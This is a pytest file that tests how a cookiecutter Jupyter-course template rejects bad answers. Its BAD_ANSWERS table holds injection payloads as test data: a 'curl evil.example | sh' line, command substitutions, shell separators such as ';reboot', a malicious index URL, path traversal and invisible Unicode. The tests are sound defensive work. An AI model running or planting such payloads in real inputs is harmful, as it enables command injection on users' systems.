"""An answer that cannot work stops generation with one clear line and leaves nothing behind."""

from __future__ import annotations

import json
import shlex
import subprocess
import sys

import pytest
from cookiecutter.exceptions import FailedHookException
from cookiecutter.main import cookiecutter

from hooks import answer_rules as rules
from tests.support.answers import (
    DEFAULT_ANSWERS,
    DEFAULT_SLUG,
    DEFAULTS,
    SKIP_LOCK,
    TEMPLATE,
    bake,
    environment,
    hook_answers,
)

BAD_ANSWERS = {
    "stacks-without-python-3.10": ({"python_version": "3.10", "base_image": "jupyter-scipy-notebook"},
                                   "base_image jupyter-scipy-notebook has no python-3.10 tag"),
    "stacks-without-python-3.14": ({"python_version": "3.14", "base_image": "jupyter-minimal-notebook"},
                                   "base_image jupyter-minimal-notebook has no python-3.14 tag"),
    "python-3.9": ({"python_version": "3.9"}, "python_version '3.9' is not one of 3.14, 3.13, 3.12, 3.11, 3.10"),
    "python-with-a-run-line": ({"python_version": "3.13-slim\nRUN id"}, "python_version '3.13-slim\\nRUN id' is not"),
    "custom-base-left-empty": ({"base_image": "custom"}, "custom_base_image '' is not an image reference"),
    "slug-with-slash": ({"project_slug": "course/evil"}, "project_slug 'course/evil' is not valid"),
    "slug-dot-dot": ({"project_slug": ".."}, "project_slug '..' is not valid"),
    "slug-empty": ({"project_slug": ""}, "project_slug '' is not valid"),
    "slug-uppercase": ({"project_slug": "Intro"}, "project_slug 'Intro' is not valid"),
    "course-name-without-letters": ({"course_name": "📊 ✨"}, "project_slug '' is not valid"),
    "package-semicolon": ({"packages": "numpy; import os"}, "packages: 'numpy;' is not a plain requirement"),
    "package-newline": ({"packages": "numpy\nRUN curl evil.example | sh"}, "packages must be a single line"),
    "package-command-substitution": ({"packages": "$(touch /tmp/pwned)"},
                                     "packages: '$(touch' is not a plain requirement"),
    "package-url": ({"packages": "https://example.com/x.whl"},
                    "packages: 'https://example.com/x.whl' is not a plain requirement"),
    "package-index-url-option": ({"packages": "--index-url https://evil.example/simple numpy"},
                                 "packages: '--index-url' is not a plain requirement"),
    "port-too-low": ({"jupyter_port": "80"}, "jupyter_port '80' must be a number from 1024 to 65535"),
    "port-too-high": ({"jupyter_port": "70000"}, "jupyter_port '70000' must be a number from 1024 to 65535"),
    "apt-shell-characters": ({"apt_packages": "graphviz;reboot"}, "apt_packages: 'graphviz;reboot' is not"),
    "apt-command-substitution": ({"apt_packages": "$(id)"}, "apt_packages: '$(id)' is not"),
    "email-without-at": ({"instructor_email": "ada.example.edu"}, "instructor_email 'ada.example.edu' is not"),
    "registry-uppercase": ({"image_registry": "ghcr.io/My-Org"}, "image_registry 'ghcr.io/My-Org' is not valid"),
    "course-name-newline": ({"course_name": "Intro\nRUN id"}, "course_name must be a single line"),
    "port-arabic-indic-digits": ({"jupyter_port": "\u0668\u0668\u0668\u0668"},
                                "jupyter_port '\u0668\u0668\u0668\u0668' must be"),
    "port-fullwidth-digits": ({"jupyter_port": "\uff18\uff18\uff18\uff18"},
                             "jupyter_port '\uff18\uff18\uff18\uff18' must be"),
    "port-superscript-digits": ({"jupyter_port": "\u00b2\u00b2\u00b2\u00b2"},
                               "jupyter_port '\u00b2\u00b2\u00b2\u00b2' must be"),
    "port-leading-zero": ({"jupyter_port": "08888"}, "jupyter_port '08888' must be"),
    "private-project-dir": ({"__project_dir": "../escaped"}, "__project_dir is derived from the other answers"),
    "private-base-image-run-line": ({"__base_image": "python:3.13-slim\nRUN touch /pwned"},
                                    "__base_image is derived from the other answers"),
    "private-image-yaml-keys": ({"__image": "ghcr.io/x/y\n  evil: true"}, "__image is derived from the other answers"),
    "private-user-root": ({"__user": "root"}, "__user is derived from the other answers"),
    "email-parameter-expansion": ({"instructor_email": "a${NB_UID:?boom}@x.com"}, "instructor_email 'a${NB_UID"),
    "email-backticks": ({"instructor_email": "a`id`@x.com"}, "instructor_email 'a`id`@x.com' is not"),
    "email-bidi": ({"instructor_email": "ada@ex\u202eample.edu"}, "instructor_email must be a single line of visible"),
    "name-c1-control": ({"instructor_name": "Ada\x9bLovelace"}, "instructor_name must be a single line of visible"),
    "name-bidi-override": ({"course_name": "Intro \u202eevil"}, "course_name must be a single line of visible text"),
    "name-zero-width-space": ({"course_name": "Intro\u200bScience"}, "course_name must be a single line of visible"),
    "name-line-separator": ({"course_name": "Intro\u2028RUN id"}, "course_name must be a single line of visible"),
    "name-paragraph-separator": ({"course_name": "Intro\u2029RUN id"}, "course_name must be a single line of visible"),
    "registry-without-host": ({"image_registry": "myname"},
                              "image_registry 'myname' does not start with a registry host"),
    "registry-null": ({"image_registry": "null"}, "image_registry 'null' does not start with a registry host"),
    "slug-250-characters": ({"project_slug": "a" * 250}, "project_slug is 250 characters long: at most 63"),
    "course-name-300-characters": ({"course_name": "Data " * 60}, "course_name is 300 characters long: at most 120"),
    "email-300-characters": ({"instructor_email": "a" * 290 + "@example.edu"}, "instructor_email is 302 characters"),
    "jupyterhub-major-with-a-line": ({"_jupyterhub_version": "6\nnumpy"}, "_jupyterhub_version '6\\nnumpy' must be"),
    "chart-version-with-a-line": ({"_z2jh_chart_version": "4.4.0\n--set x=1"},
                                  "_z2jh_chart_version '4.4.0\\n--set x=1' must be a chart version"),
    "private-project-dir-nested": ({"__project_dir": "../a/child"}, "__project_dir is derived from the other answers"),
    "apt-trailing-minus-removes": ({"apt_packages": "tini-"}, "apt_packages: 'tini-' is not a Debian package name"),
    "package-wheel-file": ({"packages": "evil-1.0-py3-none-any.whl"},
                           "packages: 'evil-1.0-py3-none-any.whl' is not a plain requirement"),
    "package-sdist-file": ({"packages": "numpy evil-1.0.tar.gz"}, "packages: 'evil-1.0.tar.gz' is not a plain"),
    "package-zip-file": ({"packages": "evil.zip"}, "packages: 'evil.zip' is not a plain requirement"),
    "pytorch-index-plain-http": ({"packages": "torch", "_pytorch_cpu_index": "http://mirror.example.edu/whl/cpu"},
                                 "_pytorch_cpu_index 'http://mirror.example.edu/whl/cpu' must be the address"),
    "custom-base-digest-without-tag": (
        {"base_image": "custom", "custom_base_image": "registry.example.edu/python@sha256:" + "a" * 64},
        "custom_base_image 'registry.example.edu/python@sha256:aaaa"),
    "repository-with-a-token": ({"repository_url": "https://ada:ghp_TOKEN@github.com/ada/course"},
                                "repository_url 'https://ada:ghp_TOKEN@github.com/ada/course' is not a plain https"),
    "repository-plain-http": ({"repository_url": "http://github.com/ada/course"}, "repository_url 'http://github"),
    "repository-with-a-space": ({"repository_url": "https://github.com/ada/my course"}, "repository_url 'https://"),
    "repository-command": ({"repository_url": "https://github.com/ada/x;reboot"}, "repository_url 'https://"),
    "repository-newline": ({"repository_url": "https://github.com/ada/x\nrm"}, "repository_url must be a single line"),
    "template-address-with-a-token": ({"_template_repository": "https://ada:TOKEN@github.com/ada/template"},
                                      "_template_repository 'https://ada:TOKEN@github.com/ada/template' is not"),
    "pytorch-index-with-a-toml-line": (
        {"packages": "torch", "_pytorch_cpu_index": 'https://x.example/"\nexplicit = false'},
        "_pytorch_cpu_index 'https://x.example/\"\\nexplicit = false' must be the address"),
}


@pytest.mark.parametrize(("answers", "message"), BAD_ANSWERS.values(), ids=BAD_ANSWERS.keys())
def test_bad_answer_is_refused_with_a_clear_message(answers, message):
    with pytest.raises(rules.InvalidAnswer) as refused:
        rules.check_answers(hook_answers(**answers))
    assert str(refused.value).startswith(message)


# Through cookiecutter itself, one of each kind: the hook's wiring (answers as data, one framed line,
# nothing written), and the answers cookiecutter derives before the hook sees them (the slug).
THROUGH_COOKIECUTTER = ["python-with-a-run-line", "course-name-without-letters", "package-command-substitution",
                        "private-image-yaml-keys", "name-bidi-override", "stacks-without-python-3.14"]


@pytest.mark.parametrize("case", THROUGH_COOKIECUTTER)
def test_bad_answer_fails_with_a_clear_message_and_no_output(case, tmp_path, capfd):
    answers, message = BAD_ANSWERS[case]
    output = tmp_path / "output"
    output.mkdir()
    with pytest.raises(FailedHookException):
        bake(output, answers, SKIP_LOCK)
    errors = [line for line in capfd.readouterr().err.splitlines() if line.startswith("ERROR:")]
    assert len(errors) == 1
    assert errors[0].startswith(f"ERROR: {message}")
    assert list(output.iterdir()) == []
    assert list(tmp_path.iterdir()) == [output]


def test_python_version_written_unquoted_in_a_yaml_file_is_refused_with_the_fix(tmp_path, capfd):
    # YAML reads 3.10 as the number 3.1: the refusal says how to write it.
    config = tmp_path / "department.yaml"
    config.write_text("default_context:\n  python_version: 3.10\n")
    with environment(SKIP_LOCK), pytest.raises(FailedHookException):
        cookiecutter(str(TEMPLATE), no_input=True, config_file=str(config), output_dir=str(tmp_path / "out"))
    errors = [line for line in capfd.readouterr().err.splitlines() if line.startswith("ERROR:")]
    assert errors == ["ERROR: python_version '3.1' is not one of 3.14, 3.13, 3.12, 3.11, 3.10 "
                      '(in a YAML file, quote it: python_version: "3.10")']
    assert not (tmp_path / "out").exists() or list((tmp_path / "out").iterdir()) == []


def test_injection_payload_is_never_run(tmp_path):
    marker = tmp_path / "pwned"
    with pytest.raises(FailedHookException):
        bake(tmp_path / "out",
             {"packages": f"numpy $(touch {marker})", "course_name": f"'''); open('{marker}', 'w')#"},
             SKIP_LOCK)
    assert not marker.exists()


def test_private_project_dir_cannot_overwrite_files_outside_the_output_folder(tmp_path, capfd):
    # With --overwrite-if-exists, a folder beside the output folder would otherwise be written into.
    beside = tmp_path / "escaped"
    beside.mkdir()
    (beside / "README.md").write_text("the instructor's own README\n")
    (tmp_path / "output").mkdir()
    with pytest.raises(FailedHookException):
        bake(tmp_path / "output", {"__project_dir": "../escaped"}, SKIP_LOCK, overwrite_if_exists=True)
    assert "ERROR: __project_dir is derived from the other answers" in capfd.readouterr().err
    assert [path.name for path in beside.iterdir()] == ["README.md"]
    assert (beside / "README.md").read_text() == "the instructor's own README\n"
    assert list((tmp_path / "output").iterdir()) == []


def test_a_stale_folder_from_an_old_refusal_does_not_hide_the_message(tmp_path, capfd):
    for stale in ("invalid-project-slug", "invalid-project-slug-0"):
        (tmp_path / stale).mkdir()
    with pytest.raises(FailedHookException):
        bake(tmp_path, {"project_slug": "Bad Slug"}, SKIP_LOCK)
    assert "ERROR: project_slug 'Bad Slug' is not valid" in capfd.readouterr().err
    assert sorted(path.name for path in tmp_path.iterdir()) == ["invalid-project-slug", "invalid-project-slug-0"]


def test_a_replay_file_without_the_private_values_fails_with_one_line(tmp_path, capfd):
    # Written by hand, or by a version of the template with other private values.
    answers = {**DEFAULT_ANSWERS, "project_slug": DEFAULT_SLUG, "repository_url": "https://github.com/ada/course",
               **{key: value for key, value in DEFAULTS.items() if key.startswith("_") and not key.startswith("__")}}
    replay = tmp_path / "replay.json"
    replay.write_text(json.dumps({"cookiecutter": answers}))
    (tmp_path / "output").mkdir()
    with environment(SKIP_LOCK), pytest.raises(FailedHookException):
        cookiecutter(str(TEMPLATE), replay=str(replay), output_dir=str(tmp_path / "output"))
    errors = [line for line in capfd.readouterr().err.splitlines() if line.startswith("ERROR:")]
    assert errors[0].startswith("ERROR: the replay file has no __base_image, __default_url, __image, __project_dir, "
                                "__pytorch_cpu, __stacks, __user (it was written by another version"), errors
    assert list((tmp_path / "output").iterdir()) == []


def test_a_refusal_prints_the_command_that_keeps_the_other_answers_and_it_works(tmp_path, capfd):
    # A typo in the last question need not cost every other answer again.
    answers = {"course_name": "Numerical Methods", "instructor_name": "Ada O'Hara", "desktop": True,
               "python_version": "3.9"}
    with pytest.raises(FailedHookException):
        bake(tmp_path / "refused", answers, SKIP_LOCK)
    err = capfd.readouterr().err.splitlines()
    command = err[err.index(next(line for line in err if line.startswith("Nothing was generated."))) + 1].strip()
    assert command.startswith("uvx cookiecutter --no-input ")
    assert command.endswith(" python_version=...")
    # Typed as printed, with the answer corrected.
    fixed = shlex.split(command.replace("python_version=...", "python_version=3.12"))
    (tmp_path / "again").mkdir()
    with environment(SKIP_LOCK):
        again = subprocess.run([sys.executable, "-m", "cookiecutter", *fixed[2:], "--output-dir", "again"],
                               cwd=tmp_path, capture_output=True, text=True)
    assert again.returncode == 0, again.stderr
    project = tmp_path / "again" / "numerical-methods"
    recorded = json.loads((project / ".cookiecutter.json").read_text())
    assert {key: recorded[key] for key in answers} == {**answers, "python_version": "3.12"}
